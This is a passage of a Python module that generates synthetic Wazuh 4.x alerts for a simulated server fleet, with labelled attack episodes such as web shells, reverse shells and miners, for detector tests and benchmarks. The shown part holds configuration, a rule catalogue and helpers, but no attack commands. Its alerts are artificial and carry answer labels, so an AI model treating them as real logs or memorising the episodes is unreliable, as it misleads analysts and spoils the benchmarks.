"""Synthetic Wazuh alerts for a small fleet, with labelled attack episodes.

Why: tests, benchmarks and the demo need alerts that look exactly like the lines a Wazuh 4.x
manager writes to ``logs/alerts/alerts.json`` -- same keys in the same order, the real rule ids,
levels, groups, compliance arrays and MITRE mappings, the real decoder output (``data.*``,
``syscheck.*``) and ``full_log`` texts -- in a realistic volume and daily rhythm, with attacks
whose every alert carries a label. Everything here is derived from the Wazuh ruleset and
decoders (``ruleset/rules/*.xml``, ``ruleset/decoders/*.xml``) and from ``analysisd``'s JSON
writer; see ``docs/generator.md``.

Standard library only, deterministic per seed::

    from mimizuku.tools.synth import FleetConfig, generate, episodes
    for alert in generate(FleetConfig(days=3, seed=1, scale=0.1)):
        ...

Every alert has a top-level ``_label`` = ``{"attack": bool, "episode": "<kind>#<n>" | "-",
"kind": "<kind>" | "-"}``; detectors ignore unknown top-level keys, benchmarks strip it.
"""
from __future__ import annotations

import argparse
import gzip as _gzip
import hashlib
import ipaddress
import json
import math
import os
import random
import re
import sys
import time
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from typing import Any, Callable, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple
from urllib.parse import quote as _urlquote

__all__ = [
    "EPISODE_KINDS",
    "ROLES",
    "FleetConfig",
    "HostSpec",
    "default_fleet",
    "episodes",
    "generate",
    "main",
    "strip_labels",
    "write_archive_tree",
    "write_jsonl",
]

#: Host roles the generator knows how to animate.
ROLES = ("manager", "web", "db", "bastion", "ci", "mail", "workstation")

#: Attack episode kinds, in the order they are planned.
EPISODE_KINDS = (
    "web_shell",
    "reverse_shell",
    "persistence",
    "uid0_user",
    "ssh_key_backdoor",
    "miner",
    "log_wiping",
    "suid_shell",
    "unusual_login_sudo",
    "ssh_bruteforce_success",
    "web_scan_flood",
)

LABEL_KEY = "_label"

DAY_MS = 86_400_000
HOUR_MS = 3_600_000
MIN_MS = 60_000

# ----------------------------------------------------------------------------- configuration


@dataclass(frozen=True)
class HostSpec:
    """One monitored host. ``agent_id`` is assigned in order ("001", ...) when left empty;
    the manager (role ``manager``) is always agent ``000``."""

    name: str
    role: str
    ip: Optional[str] = None
    agent_id: Optional[str] = None
    #: web role only: ``nginx`` (with php-fpm) or ``apache`` (mod_php).
    web_server: str = "nginx"
    #: workstation role only: the developer who owns it.
    owner: Optional[str] = None


def default_fleet() -> List[HostSpec]:
    """The fleet of the docs: manager, 2 web, db, bastion, 2 CI runners, mail, 2 workstations."""
    return [
        HostSpec("wazuh-manager", "manager", "10.20.1.5", "000"),
        HostSpec("web-01", "web", "10.20.1.11", web_server="nginx"),
        HostSpec("web-02", "web", "10.20.1.12", web_server="apache"),
        HostSpec("db-01", "db", "10.20.1.21"),
        HostSpec("bastion-01", "bastion", "10.20.1.30"),
        HostSpec("ci-runner-01", "ci", "10.20.1.41"),
        HostSpec("ci-runner-02", "ci", "10.20.1.42"),
        HostSpec("mail-01", "mail", "10.20.1.51"),
        HostSpec("dev-ws-01", "workstation", "10.20.10.21", owner="frank"),
        HostSpec("dev-ws-02", "workstation", "10.20.10.22", owner="grace"),
    ]


@dataclass
class FleetConfig:
    """What to generate.

    ``scale`` multiplies the rate of every activity (CI jobs, logins, web traffic, internet
    noise, deploys, uploads...). ``scale=1`` gives about 20,000 alerts per weekday and
    10,000 per weekend day for the default fleet (~240,000 over 14 days); ``scale=5.5`` gives
    ~1,000,000 over 14 days. Periodic work (cron, timers, scans, the weekly patch run) keeps its
    fixed times: below 1 it is thinned in proportion, above 1 it does not grow, so volume is
    linear in ``scale`` up to 1 and slightly below linear above.

    Attacks happen only in the last ``attack_days`` days, so everything before is clean
    training data. ``episodes`` lists the kinds to plant (default: one of each of
    :data:`EPISODE_KINDS`); a kind may be repeated.
    """

    hosts: Optional[List[HostSpec]] = None
    days: int = 14
    start: Optional[date] = None
    seed: int = 0
    scale: float = 1.0
    attack_days: int = 2
    episodes: Optional[Sequence[str]] = None
    attacks: bool = True
    manager_name: str = "wazuh-manager"
    #: weekday (0 = Monday) when admins patch the servers.
    patch_weekday: int = 1

    def resolved_start(self) -> date:
        """``start``, or today (UTC) minus ``days``."""
        if self.start is not None:
            return self.start
        return datetime.now(timezone.utc).date() - timedelta(days=self.days)

    def resolved_hosts(self) -> List[HostSpec]:
        """The hosts with agent ids filled in and the configuration checked."""
        specs = list(self.hosts) if self.hosts is not None else default_fleet()
        if not specs:
            raise ValueError("FleetConfig.hosts is empty: give at least one host")
        out: List[HostSpec] = []
        seen_names = set()
        seen_ids = set()
        next_id = 1
        for spec in specs:
            if not isinstance(spec, HostSpec):
                raise ValueError(f"FleetConfig.hosts: expected HostSpec, got {type(spec).__name__}")
            if spec.role not in ROLES:
                raise ValueError(f"host {spec.name!r}: unknown role {spec.role!r} (known: {', '.join(ROLES)})")
            if not re.match(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,62}$", spec.name or ""):
                raise ValueError(f"host name {spec.name!r} is not a valid hostname")
            if spec.name in seen_names:
                raise ValueError(f"duplicate host name {spec.name!r}")
            seen_names.add(spec.name)
            agent_id = spec.agent_id
            if spec.role == "manager":
                agent_id = "000"
            if agent_id is None:
                while f"{next_id:03d}" in seen_ids or any(s.agent_id == f"{next_id:03d}" for s in specs):
                    next_id += 1
                agent_id = f"{next_id:03d}"
                next_id += 1
            if agent_id in seen_ids:
                raise ValueError(f"duplicate agent id {agent_id!r}")
            seen_ids.add(agent_id)
            ip = spec.ip or f"10.20.2.{len(out) + 10}"
            out.append(HostSpec(spec.name, spec.role, ip, agent_id, spec.web_server, spec.owner))
        if sum(1 for s in out if s.role == "manager") > 1:
            raise ValueError("only one host may have the role 'manager'")
        return out

    def resolved_episodes(self) -> List[str]:
        """The episode kinds to plant, checked."""
        if not self.attacks or self.attack_days <= 0:
            return []
        kinds = list(EPISODE_KINDS) if self.episodes is None else list(self.episodes)
        for k in kinds:
            if k not in EPISODE_KINDS:
                raise ValueError(f"unknown episode kind {k!r} (known: {', '.join(EPISODE_KINDS)})")
        return kinds

    def check(self) -> None:
        if not isinstance(self.days, int) or self.days < 1:
            raise ValueError(f"FleetConfig.days must be an integer >= 1, got {self.days!r}")
        if not isinstance(self.attack_days, int) or self.attack_days < 0:
            raise ValueError(f"FleetConfig.attack_days must be an integer >= 0, got {self.attack_days!r}")
        try:
            scale = float(self.scale)
        except (TypeError, ValueError):
            raise ValueError(f"FleetConfig.scale must be a number, got {self.scale!r}") from None
        if not (scale > 0 and math.isfinite(scale)):
            raise ValueError(f"FleetConfig.scale must be a positive number, got {self.scale!r}")
        if not (0 <= int(self.patch_weekday) <= 6):
            raise ValueError("FleetConfig.patch_weekday must be 0..6")
        if not re.match(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,62}$", self.manager_name or ""):
            raise ValueError(f"manager_name {self.manager_name!r} is not a valid hostname")
        self.resolved_hosts()
        self.resolved_episodes()


# ----------------------------------------------------------------------------- rule catalogue
# Levels, descriptions, groups (with the compliance tokens exactly as in the XML, outer group
# first) and MITRE ids of the Wazuh 4.x ruleset. analysisd splits the group string: compliance
# tokens become arrays (in order of first appearance), the rest stay in ``groups``.

#: MITRE ATT&CK id -> (technique name, tactics), as analysisd expands them from its database.
MITRE: Dict[str, Tuple[str, Tuple[str, ...]]] = {
    "T1021": ("Remote Services", ("Lateral Movement",)),
    "T1021.004": ("SSH", ("Lateral Movement",)),
    "T1053.003": ("Cron", ("Execution", "Persistence", "Privilege Escalation")),
    "T1055": ("Process Injection", ("Defense Evasion", "Privilege Escalation")),
    "T1070.004": ("File Deletion", ("Defense Evasion",)),
    "T1078": ("Valid Accounts", ("Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access")),
    "T1083": ("File and Directory Discovery", ("Discovery",)),
    "T1110": ("Brute Force", ("Credential Access",)),
    "T1110.001": ("Password Guessing", ("Credential Access",)),
    "T1136": ("Create Account", ("Persistence",)),
    "T1190": ("Exploit Public-Facing Application", ("Initial Access",)),
    "T1485": ("Data Destruction", ("Impact",)),
    "T1548.003": ("Sudo and Sudo Caching", ("Privilege Escalation", "Defense Evasion")),
    "T1562.001": ("Disable or Modify Tools", ("Defense Evasion",)),
    "T1565.001": ("Stored Data Manipulation", ("Impact",)),
    "T1595.002": ("Vulnerability Scanning", ("Reconnaissance",)),
}

_COMPLIANCE = (
    ("pci_dss_", "pci_dss"),
    ("cis_", "cis"),
    ("gdpr_", "gdpr"),
    ("gpg13_", "gpg13"),
    ("hipaa_", "hipaa"),
    ("nist_800_53_", "nist_800_53"),
    ("tsc_", "tsc"),
)


class _Rule:
    __slots__ = ("id", "level", "description", "mitre", "frequency", "mail", "groups", "compliance")

    def __init__(self, rid: str, level: int, description: str, groups: str,
                 mitre: Sequence[str] = (), frequency: Optional[int] = None) -> None:
        self.id = rid
        self.level = level
        self.description = description
        self.frequency = frequency
        self.mail = level >= 12  # default <email_alert_level>
        gl: List[str] = []
        comp: Dict[str, List[str]] = {}
        for tok in groups.split(","):
            tok = tok.strip()
            if not tok:
                continue
            for prefix, key in _COMPLIANCE:
                if tok.startswith(prefix):
                    comp.setdefault(key, []).append(tok[len(prefix):])
                    break
            else:
                gl.append(tok)
        self.groups = tuple(gl)
        self.compliance = tuple((k, tuple(v)) for k, v in comp.items())
        if mitre:
            tactics: List[str] = []
            for m in mitre:
                for tac in MITRE[m][1]:
                    if tac not in tactics:
                        tactics.append(tac)
            self.mitre = (tuple(mitre), tuple(tactics), tuple(MITRE[m][0] for m in mitre))
        else:
            self.mitre = None


_FIM_COMP = ("pci_dss_11.5,gpg13_4.11,gdpr_II_5.1.f,hipaa_164.312.c.1,hipaa_164.312.c.2,nist_800_53_SI.7,"
             "tsc_PI1.4,tsc_PI1.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_AGENT_COMP = ("pci_dss_10.6.1,pci_dss_10.2.6,gpg13_10.1,gdpr_IV_35.7.d,hipaa_164.312.b,nist_800_53_AU.6,"
               "nist_800_53_AU.14,nist_800_53_AU.5,tsc_CC7.2,tsc_CC7.3,tsc_CC6.8")
_DPKG_COMP = ("config_changed,pci_dss_10.6.1,pci_dss_10.2.7,gpg13_4.10,gdpr_IV_35.7.d,hipaa_164.312.b,"
              "nist_800_53_AU.6,nist_800_53_AU.14,tsc_CC7.2,tsc_CC7.3,tsc_CC6.8,tsc_CC8.1")
_ADDUSER_COMP = ("pci_dss_10.2.7,pci_dss_10.2.5,pci_dss_8.1.2,gpg13_4.13,gdpr_IV_35.7.d,gdpr_IV_32.2,"
                 "hipaa_164.312.b,hipaa_164.312.a.2.I,hipaa_164.312.a.2.II,nist_800_53_AU.14,nist_800_53_AC.7,"
                 "nist_800_53_AC.2,nist_800_53_IA.4,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_SSH_FAIL_COMP = ("gdpr_IV_35.7.d,gdpr_IV_32.2,gpg13_7.1,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,"
                  "pci_dss_10.2.4,pci_dss_10.2.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_SSH_BRUTE_COMP = ("gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_SI.4,nist_800_53_AU.14,"
                   "nist_800_53_AC.7,pci_dss_11.4,pci_dss_10.2.4,pci_dss_10.2.5,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_WEB_COMP = ("pci_dss_6.5,pci_dss_11.4,gdpr_IV_35.7.d,nist_800_53_SA.11,nist_800_53_SI.4,tsc_CC6.6,tsc_CC7.1,"
             "tsc_CC8.1,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_SUDO_OK_COMP = ("pci_dss_10.2.5,pci_dss_10.2.2,gpg13_7.6,gpg13_7.8,gpg13_7.13,gdpr_IV_32.2,hipaa_164.312.b,"
                 "nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AC.6,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3")
_PAM_COMP = "pci_dss_10.2.5,gpg13_7.8,gpg13_7.9,gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3"

RULES: Dict[str, _Rule] = {r.id: r for r in (
    # 0015-ossec_rules.xml
    _Rule("502", 3, "Wazuh server started.",
          "ossec,pci_dss_10.6.1,gpg13_10.1,gdpr_IV_35.7.d,hipaa_164.312.b,nist_800_53_AU.6,tsc_CC7.2,tsc_CC7.3"),
    _Rule("503", 3, "Wazuh agent started.", "ossec," + _AGENT_COMP),
    _Rule("506", 3, "Wazuh agent stopped.", "ossec," + _AGENT_COMP, ("T1562.001",)),
    _Rule("510", 7, "Host-based anomaly detection event (rootcheck).", "ossec,rootcheck,pci_dss_10.6.1,gdpr_IV_35.7.d"),
    _Rule("550", 7, "Integrity checksum changed.",
          "ossec,syscheck,syscheck_entry_modified,syscheck_file," + _FIM_COMP, ("T1565.001",)),
    _Rule("553", 7, "File deleted.",
          "ossec,syscheck,syscheck_entry_deleted,syscheck_file," + _FIM_COMP, ("T1070.004", "T1485")),
    _Rule("554", 5, "File added to the system.", "ossec,syscheck,syscheck_entry_added,syscheck_file," + _FIM_COMP),
    _Rule("591", 3, "Log file rotated.",
          "ossec,pci_dss_10.5.2,pci_dss_10.5.5,gpg13_10.1,gdpr_II_5.1.f,gdpr_IV_35.7.d,hipaa_164.312.b,"
          "nist_800_53_AU.9,tsc_CC6.1,tsc_CC7.2,tsc_CC7.3,tsc_PI1.4,tsc_PI1.5,tsc_CC7.1,tsc_CC8.1"),
    _Rule("592", 8, "Log file size reduced.",
          "ossec,attacks,pci_dss_10.5.2,pci_dss_11.4,gpg13_10.1,gdpr_IV_35.7.d,hipaa_164.312.b,nist_800_53_AU.9,"
          "nist_800_53_SI.4,tsc_CC6.1,tsc_CC7.2,tsc_CC7.3,tsc_CC6.8", ("T1565.001",)),
    # 0020-syslog_rules.xml
    _Rule("2832", 5, "Crontab entry changed.",
          "syslog,cron,pci_dss_10.2.7,pci_dss_10.6.1,gpg13_4.13,gdpr_IV_35.7.d,hipaa_164.312.b,nist_800_53_AU.14,"
          "nist_800_53_AU.6,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3"),
    _Rule("2833", 8, "Root's crontab entry changed.",
          "syslog,cron,pci_dss_10.2.7,pci_dss_10.6.1,pci_dss_10.2.2,gpg13_4.13,gdpr_IV_35.7.d,gdpr_IV_32.2,"
          "hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AU.6,nist_800_53_AC.6,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3",
          ("T1053.003",)),
    _Rule("2901", 3, "New dpkg (Debian Package) requested to install.",
          "syslog,dpkg,pci_dss_10.6.1,gpg13_4.10,gdpr_IV_35.7.d,hipaa_164.312.b,nist_800_53_AU.6,tsc_CC7.2,"
          "tsc_CC7.3,tsc_CC8.1"),
    _Rule("2902", 7, "New dpkg (Debian Package) installed.", "syslog,dpkg," + _DPKG_COMP),
    _Rule("2904", 7, "Dpkg (Debian Package) half configured.", "syslog,dpkg," + _DPKG_COMP),
    _Rule("5303", 3, "User successfully changed UID to root.",
          "syslog,su,authentication_success,pci_dss_10.2.5,gpg13_7.6,gpg13_7.8,gpg13_7.9,gdpr_IV_35.7.d,"
          "gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1078",)),
    _Rule("5304", 3, "User successfully changed UID.",
          "syslog,su,authentication_success,pci_dss_10.2.5,gpg13_7.6,gpg13_7.8,gdpr_IV_35.7.d,gdpr_IV_32.2,"
          "hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1078",)),
    _Rule("5401", 5, "Failed attempt to run sudo.",
          "syslog,sudo,pci_dss_10.2.4,pci_dss_10.2.5,gpg13_7.8,gdpr_IV_35.7.d,gdpr_IV_32.2,hipaa_164.312.b,"
          "nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1548.003",)),
    _Rule("5402", 3, "Successful sudo to ROOT executed.", "syslog,sudo," + _SUDO_OK_COMP, ("T1548.003",)),
    _Rule("5403", 4, "First time user executed sudo.", "syslog,sudo", ("T1548.003",)),
    _Rule("5407", 3, "Successful sudo executed.",
          "syslog,sudo,pci_dss_10.2.5,pci_dss_10.2.2,gpg13_7.6,gpg13_7.8,gpg13_7.13,gdpr_IV_32.2,tsc_CC6.8,"
          "tsc_CC7.2,tsc_CC7.3", ("T1548.003",)),
    _Rule("5901", 8, "New group added to the system.", "syslog,adduser," + _ADDUSER_COMP),
    _Rule("5902", 8, "New user added to the system.", "syslog,adduser," + _ADDUSER_COMP, ("T1136",)),
    _Rule("10100", 4, "First time user logged in.", "syslog,fts,authentication_success", ("T1078",)),
    # 0085-pam_rules.xml
    _Rule("5501", 3, "PAM: Login session opened.", "pam,syslog,authentication_success," + _PAM_COMP, ("T1078",)),
    _Rule("5502", 3, "PAM: Login session closed.", "pam,syslog," + _PAM_COMP),
    _Rule("5555", 3, "PAM: User changed password.",
          "pam,syslog,pci_dss_8.1.2,pci_dss_10.2.5,gpg13_4.13,gpg13_7.10,gdpr_IV_35.7.d,gdpr_IV_32.2,"
          "hipaa_164.312.a.2.I,hipaa_164.312.a.2.II,hipaa_164.312.b,nist_800_53_AC.2,nist_800_53_IA.4,"
          "nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3"),
    # 0095-sshd_rules.xml
    _Rule("5706", 6, "sshd: insecure connection attempt (scan).",
          "syslog,sshd,gdpr_IV_35.7.d,gpg13_4.12,nist_800_53_SI.4,pci_dss_11.4,recon,tsc_CC6.1,tsc_CC6.8,"
          "tsc_CC7.2,tsc_CC7.3", ("T1021.004",)),
    _Rule("5710", 5, "sshd: Attempt to login using a non-existent user",
          "syslog,sshd,authentication_failed,gdpr_IV_35.7.d,gdpr_IV_32.2,gpg13_7.1,hipaa_164.312.b,invalid_login,"
          "nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_AU.6,pci_dss_10.2.4,pci_dss_10.2.5,pci_dss_10.6.1,"
          "tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1110.001", "T1021.004", "T1078")),
    _Rule("5712", 10, "sshd: brute force trying to get access to the system. Non existent user.",
          "syslog,sshd,authentication_failures," + _SSH_BRUTE_COMP, ("T1110",), frequency=8),
    _Rule("5715", 3, "sshd: authentication success.",
          "syslog,sshd,authentication_success,gdpr_IV_32.2,gpg13_7.1,gpg13_7.2,hipaa_164.312.b,nist_800_53_AU.14,"
          "nist_800_53_AC.7,pci_dss_10.2.5,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1078", "T1021")),
    _Rule("5758", 8, "Maximum authentication attempts exceeded.", "syslog,sshd,authentication_failed,gpg13_7.1",
          ("T1110",)),
    _Rule("5760", 5, "sshd: authentication failed.", "syslog,sshd,authentication_failed," + _SSH_FAIL_COMP,
          ("T1110.001", "T1021.004")),
    _Rule("5763", 10, "sshd: brute force trying to get access to the system. Authentication failed.",
          "syslog,sshd,authentication_failures," + _SSH_BRUTE_COMP, ("T1110",), frequency=8),
    # 0155-dovecot_rules.xml
    _Rule("9701", 3, "Dovecot Authentication Success.",
          "dovecot,authentication_success,pci_dss_10.2.5,gpg13_7.1,gpg13_7.2,gdpr_IV_32.2,hipaa_164.312.b,"
          "nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3", ("T1078",)),
    _Rule("9705", 5, "Dovecot Invalid User Login Attempt.",
          "dovecot,invalid_login,authentication_failed,pci_dss_10.2.4,pci_dss_10.2.5,gpg13_7.1,gdpr_IV_35.7.d,"
          "gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3"),
    _Rule("9751", 10, "Dovecot brute force attack (multiple auth failures).",
          "dovecot,authentication_failures,pci_dss_10.2.4,pci_dss_10.2.5,pci_dss_11.4,gpg13_7.1,gdpr_IV_35.7.d,"
          "gdpr_IV_32.2,hipaa_164.312.b,nist_800_53_AU.14,nist_800_53_AC.7,nist_800_53_SI.4,tsc_CC6.1,tsc_CC6.8,"
          "tsc_CC7.2,tsc_CC7.3", ("T1110",), frequency=8),
    # 0245-web_rules.xml
    _Rule("31101", 5, "Web server 400 error code.", "web,accesslog,attack," + _WEB_COMP),
    _Rule("31104", 6, "Common web attack.",
          "web,accesslog,attack,pci_dss_6.5,pci_dss_11.4,pci_dss_6.5.1,gdpr_IV_35.7.d,nist_800_53_SA.11,"
          "nist_800_53_SI.4,tsc_CC6.6,tsc_CC7.1,tsc_CC8.1,tsc_CC6.1,tsc_CC6.8,tsc_CC7.2,tsc_CC7.3",
          ("T1055", "T1083", "T1190")),
    _Rule("31106", 6, "A web attack returned code 200 (success).", "web,accesslog,attack," + _WEB_COMP, ("T1190",)),
    _Rule("31120", 5, "Web server 500 error code (server error).", "web,accesslog"),
    _Rule("31122", 5, "Web server 500 error code (Internal Error).", "web,accesslog,system_error"),
    _Rule("31151", 10, "Multiple web server 400 error codes from same source ip.",
          "web,accesslog,web_scan,recon," + _WEB_COMP, ("T1595.002",), frequency=14),
    # 0365-auditd_rules.xml
    _Rule("80792", 3, "Audit: Command: $(audit.exe).", "audit,audit_command,gdpr_IV_30.1.g"),
)}

# ----------------------------------------------------------------------------- formatting helpers

_MON = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_HEX_NEEDED = re.compile(r'["\x00-\x20\x7f-\U0010ffff]')
_UNSET = 4294967295


def _syslog_ts(sec: int) -> str:
    """``Nov 20 10:15:02`` / ``Nov  5 10:15:02`` (syslog, day space-padded)."""
    tm = time.gmtime(sec)
    return f"{_MON[tm.tm_mon - 1]} {tm.tm_mday:2d} {tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d}"


def _web_ts(sec: int) -> str:
    tm = time.gmtime(sec)
    return (f"{tm.tm_mday:02d}/{_MON[tm.tm_mon - 1]}/{tm.tm_year}:"
            f"{tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d} +0000")


def _iso_local(sec: int) -> str:
    """``%FT%T`` as analysisd prints FIM mtimes (its 20-byte buffer drops the zone)."""
    tm = time.gmtime(sec)
    return (f"{tm.tm_year:04d}-{tm.tm_mon:02d}-{tm.tm_mday:02d}T"
            f"{tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d}")


def _dpkg_ts(sec: int) -> str:
    tm = time.gmtime(sec)
    return (f"{tm.tm_year:04d}-{tm.tm_mon:02d}-{tm.tm_mday:02d} "
            f"{tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d}")


def _proctitle(argv: Sequence[str]) -> str:
    raw = "\x00".join(argv).encode("utf-8", "surrogateescape")[:128]
    if len(argv) == 1 and not _HEX_NEEDED.search(argv[0]):
        return f'"{argv[0][:128]}"'
    return raw.hex().upper()


def _hashes(key: str) -> Tuple[str, str, str]:
    b = key.encode("utf-8", "surrogateescape")
    return hashlib.md5(b).hexdigest(), hashlib.sha1(b).hexdigest(), hashlib.sha256(b).hexdigest()


def _stable_int(key: str, mod: int) -> int:
    return int.from_bytes(hashlib.blake2b(key.encode(), digest_size=8).digest(), "big") % mod


def _poisson(rng: random.Random, lam: float) -> int:
    if lam <= 0:
        return 0
    if lam < 30:
        limit = math.exp(-lam)
        k, p = 0, rng.random()
        while p > limit:
            k += 1
            p *= rng.random()
        return k
    return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))


def _rand_token(rng: random.Random, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    return "".join(rng.choices(alphabet, k=n))


def _hexs(rng: random.Random, n: int) -> str:
    return "%0*x" % (n, rng.getrandbits(4 * n))


_PUBLIC_FIRST_OCTETS = (2, 5, 23, 31, 37, 41, 45, 46, 49, 58, 59, 61, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85,
                        86, 87, 88, 89, 91, 92, 93, 94, 95, 101, 103, 106, 109, 110, 111, 112, 113, 114, 115, 116,
                        117, 118, 119, 121, 122, 123, 124, 125, 134, 139, 141, 143, 144, 146, 147, 150, 151, 152,
                        154, 156, 157, 159, 161, 162, 164, 165, 167, 170, 171, 175, 176, 178, 179, 180, 181, 182,
                        183, 185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 201, 202, 203, 206, 209,
                        210, 211, 212, 213, 217, 218, 219, 220, 221, 222, 223)


def _public_ip(rng: random.Random) -> str:
    """A random globally routable IPv4 address (not a documentation or private range)."""
    while True:
        ip = f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        if ipaddress.ip_address(ip).is_global:
            return ip


_SBIN = {"useradd", "usermod", "userdel", "adduser", "chpasswd", "logrotate", "nginx", "apache2ctl", "runuser",
         "postqueue", "postsuper", "iptables", "ldconfig", "update-initramfs", "reboot", "sshd", "visudo", "fstrim",
         "a2ensite", "service", "sendmail"}


def _sudo_path(argv0: str) -> str:
    if argv0.startswith("/"):
        return argv0
    if argv0 in ("-i", "-s"):
        return "/bin/bash"
    return ("/usr/sbin/" if argv0 in _SBIN else "/usr/bin/") + argv0


# ----------------------------------------------------------------------------- the fleet's hosts

_BASE_USERS = (
    ("root", 0, 0, "/root"), ("daemon", 1, 1, "/usr/sbin"), ("bin", 2, 2, "/bin"), ("sys", 3, 3, "/dev"),
    ("www-data", 33, 33, "/var/www"), ("backup", 34, 34, "/var/backups"), ("nobody", 65534, 65534, "/nonexistent"),
    ("systemd-network", 100, 102, "/run/systemd"), ("systemd-resolve", 101, 103, "/run/systemd"),
    ("systemd-timesync", 102, 104, "/run/systemd"), ("messagebus", 103, 106, "/nonexistent"),
    ("syslog", 104, 110, "/home/syslog"), ("_apt", 105, 65534, "/nonexistent"), ("sshd", 109, 65534, "/run/sshd"),
)
_BASE_GROUPS = {0: "root", 1: "daemon", 2: "bin", 3: "sys", 4: "adm", 5: "tty", 27: "sudo", 33: "www-data",
                34: "backup", 42: "shadow", 43: "utmp", 100: "users", 101: "systemd-journal", 102: "systemd-network",
                103: "systemd-resolve", 104: "systemd-timesync", 105: "crontab", 106: "messagebus", 110: "syslog",
                65534: "nogroup"}

ADMINS = ("alice", "bob", "carol", "dave")
NEW_ADMIN = "erin"
_ADMIN_UID = {"alice": 1001, "bob": 1002, "carol": 1003, "dave": 1004, "erin": 1005}
MAIL_USERS = ("alice", "bob", "carol", "dave", "frank", "grace", "heidi", "ivan", "judy", "ken", "lena", "mike",
              "nina", "oscar")

# Where file integrity monitoring looks, per role: (prefix, mode). Longest prefix wins.
_FIM_SERVER = (("/etc", "whodata"), ("/usr/bin", "whodata"), ("/usr/sbin", "whodata"), ("/usr/lib", "whodata"),
               ("/usr/local/bin", "whodata"), ("/usr/local/sbin", "whodata"), ("/boot", "scheduled"),
               ("/root", "whodata"), ("/home", "whodata"), ("/var/spool/cron", "whodata"), ("/tmp", "realtime"),
               ("/var/tmp", "realtime"), ("/dev/shm", "realtime"))
_FIM_WEB = _FIM_SERVER + (("/var/www", "whodata"),)
_FIM_CI = (("/etc", "whodata"), ("/usr/bin", "scheduled"), ("/usr/sbin", "scheduled"), ("/usr/lib", "scheduled"),
           ("/usr/local/bin", "whodata"), ("/boot", "scheduled"), ("/root", "whodata"),
           ("/var/spool/cron", "whodata"))
_FIM_WS = (("/etc", "realtime"), ("/usr/bin", "scheduled"), ("/usr/sbin", "scheduled"), ("/usr/lib", "scheduled"),
           ("/usr/local/bin", "scheduled"), ("/boot", "scheduled"), ("/var/spool/cron", "realtime"))

# Text files whose changes Wazuh reports with a diff (<directories report_changes="yes">).
_REPORT_CHANGES = ("/etc/", "/root/.ssh/", "/var/spool/cron/", "/home/")

# S_*: indices into a file's state list.
S_SIZE, S_PERM, S_UID, S_GID, S_UNAME, S_GNAME, S_MTIME, S_INODE, S_MD5, S_SHA1, S_SHA256 = range(11)


class _Host:
    """A monitored host: identity, accounts, FIM configuration and per-host counters."""

    def __init__(self, spec: HostSpec, world: "_World") -> None:
        self.spec = spec
        self.name = spec.name
        self.role = spec.role
        self.ip = spec.ip or ""
        self.agent_id = spec.agent_id or "000"
        self.is_manager = spec.role == "manager"
        self.web = (spec.web_server if spec.web_server in ("nginx", "apache") else "nginx") if spec.role == "web" else None
        self.owner = spec.owner or "frank"
        key = f"{world.seed}:{spec.name}"
        self.pid = 2000 + _stable_int(key + ":pid", 600000)
        self.serial = 1000 + _stable_int(key + ":serial", 900000)
        self.ses = 2 + _stable_int(key + ":ses", 3000)
        self.inode_base = 131072 + _stable_int(key + ":inode", 4_000_000)
        self.files: Dict[str, list] = {}
        self.inodes: Dict[str, int] = {}
        self.pending_scan: Dict[str, tuple] = {}
        self.scan_offset = _stable_int(key + ":scan", 12 * HOUR_MS)
        self.audit_all = spec.role == "ci"
        self.exposed_ssh = spec.role in ("bastion", "mail")
        self.users: Dict[str, Tuple[int, int, str]] = {}
        self.groups: Dict[int, str] = dict(_BASE_GROUPS)
        for name, uid, gid, home in _BASE_USERS:
            self.users[name] = (uid, gid, home)
        if spec.role == "workstation":
            self.users[self.owner] = (1000, 1000, f"/home/{self.owner}")
            self.groups[1000] = self.owner
        else:
